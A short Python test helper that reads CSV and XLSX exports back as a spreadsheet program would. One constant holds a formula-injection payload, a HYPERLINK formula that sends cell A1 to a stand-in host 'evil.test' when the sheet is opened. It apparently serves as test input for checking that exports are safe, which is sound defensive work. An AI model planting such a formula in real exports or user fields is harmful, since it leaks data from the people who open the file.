"""Reading exports back as a person's spreadsheet program would."""

import codecs
import csv
import io

import openpyxl

# A name a participant may type: a live link that sends cell A1 away when the sheet opens.
HOSTILE_NAME = '=HYPERLINK("http://evil.test/?"&A1,"klik")'


def read_csv(response) -> list[dict]:
    """The rows of a CSV export by heading, after checking it is UTF-8 with a BOM."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response) -> list[dict]:
    """The cells of an XLSX export's rows by heading."""
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    return [dict(zip(headings, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
